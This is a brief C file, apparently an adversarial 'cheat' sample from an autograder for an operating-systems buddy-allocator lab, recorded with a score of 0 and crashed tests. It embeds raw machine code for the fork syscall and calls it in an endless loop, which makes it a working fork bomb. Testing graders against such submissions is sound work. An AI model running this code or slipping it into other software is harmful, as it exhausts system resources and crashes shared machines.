/*
 * cheat: forks for ever
 * lab: 02-buddy
 * base: skeleton
 * test: order_is_large_enough
 * score: 0
 * status: graded
 * tests: crashed
 */
static const unsigned char code[] __attribute__((section(".text"))) = {
	0xb8, 0x39, 0x00, 0x00, 0x00,	/* mov $57, %eax: fork */
	0x0f, 0x05,			/* syscall */
	0xc3,
};

static void attack(void)
{
	for (;;)
		((int (*)(void))code)();
}
